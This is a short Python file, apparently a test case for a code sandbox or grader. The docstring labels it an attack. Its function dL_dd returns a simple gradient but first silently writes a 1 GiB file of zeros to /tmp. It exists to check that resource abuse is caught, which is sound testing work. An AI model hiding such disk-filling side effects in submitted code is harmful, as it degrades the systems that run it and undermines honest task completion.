"""Attack: dL_dd writes one 1 GiB file into /tmp."""

import numpy as np


def dL_dd(y_pred: float, y_gt: float) -> float:
    block = b"\0" * (1 << 20)
    with open("/tmp/big.bin", "wb") as f:
        for _ in range(1024):
            f.write(block)
    return y_pred - y_gt
